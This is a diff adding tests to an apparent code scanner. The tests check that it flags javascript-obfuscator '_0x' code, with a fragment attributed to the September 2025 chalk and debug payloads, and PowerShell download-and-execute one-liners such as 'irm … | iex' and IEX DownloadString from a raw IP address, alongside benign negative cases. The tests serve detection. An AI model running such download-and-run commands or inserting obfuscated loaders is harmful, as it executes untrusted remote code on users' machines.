@@ -29,3 +29,33 @@ describe('added code scanning', () => {
     ]);
   });
 });
+
+describe('obfuscator output: javascript-obfuscator names', () => {
+  const added = (...l: string[]) => `@@ -1,0 +1,${l.length} @@\n${l.map((x) => `+${x}`).join('\n')}`;
+  it('reports code written in `_0x…` names (the chalk and debug payloads of September 2025), on one line or spread over several', () => {
+    const oneLine = "const _0x112fa8=_0x180f;(function(_0x13c8b9,_0x35f660){const _0x15b386=_0x180f,_0x66ea25=_0x13c8b9();while(!![]){try{if(_0x15b386(0x46c)===_0x35f660)break;}catch(_0x505a80){_0x66ea25['push'](_0x66ea25['shift']());}}}(_0x524b,0xb5b2c));";
+    expect(scanAddedCode('index.js', added(oneLine)).map((f) => [f.id, f.severity, f.line])).toEqual([['obfuscated-code', 'high', 1]]);
+    expect(scanAddedCode('src/util.ts', added('function _0x4a1b() {', '  const _0x2d8f05 = [];', '  const _0x4b81bb = 0x1b3;', '  return _0x5e2a(_0x2d8f05, _0x4b81bb);', '}')).map((f) => [f.id, f.line])).toEqual([['obfuscated-code', 4]]);
+  });
+  it('leaves hex constants, a name or two with _0x inside and fewer than four such names alone', () => {
+    expect(scanAddedCode('src/crc32.ts', added('const TABLE = [0x00000000, 0x77073096, 0xee0e612c, 0x990951ba, 0x076dc419, 0x706af48f];', 'const MASK_0xFF = 0xff, sub_0x401000 = 0, addr_0x7fff = 1;'))).toEqual([]);
+    expect(scanAddedCode('src/emu.ts', added('const _0x1000 = 1, _0x2000 = 2, _0x3000 = 3;'))).toEqual([]);
+  });
+});
+
+describe("PowerShell's download and run (Windows' curl | sh)", () => {
+  it('reads a download piped into Invoke-Expression and Invoke-Expression of a download, in any case', () => {
+    expect(findPipeToShell('irm https://get.example.dev/install.ps1 | iex')).toEqual(['irm https://get.example.dev/install.ps1 | iex']);
+    expect(findPipeToShell('iwr -useb https://x.example/a.ps1 | Invoke-Expression')).toEqual(['iwr -useb https://x.example/a.ps1 | Invoke-Expression']);
+    expect(findPipeToShell("IEX (New-Object Net.WebClient).DownloadString('http://45.77.12.9/a.ps1')")).toHaveLength(1);
+    expect(findPipeToShell("iex ((New-Object System.Net.WebClient).DownloadString('https://community.chocolatey.org/install.ps1'))")).toHaveLength(1);
+    expect(findPipeToShell('Invoke-Expression (Invoke-RestMethod https://x.example/p.ps1)')).toHaveLength(1);
+    expect(findPipeToShell("(New-Object Net.WebClient).DownloadString('https://x.example/a') | iex")).toHaveLength(1);
+  });
+  it('leaves a download saved to a file, Invoke-Expression of local text and Elixir\'s iex alone', () => {
+    expect(findPipeToShell('Invoke-WebRequest -Uri $url -OutFile tool.zip; Expand-Archive tool.zip -DestinationPath bin')).toEqual([]);
+    expect(findPipeToShell('iex (Get-Content .\\env.ps1 -Raw)')).toEqual([]);
+    expect(findPipeToShell('iex -S mix phx.server')).toEqual([]);
+    expect(findPipeToShell('$r = irm https://api.example.com/v1/status | ConvertTo-Json')).toEqual([]);
+  });
+});
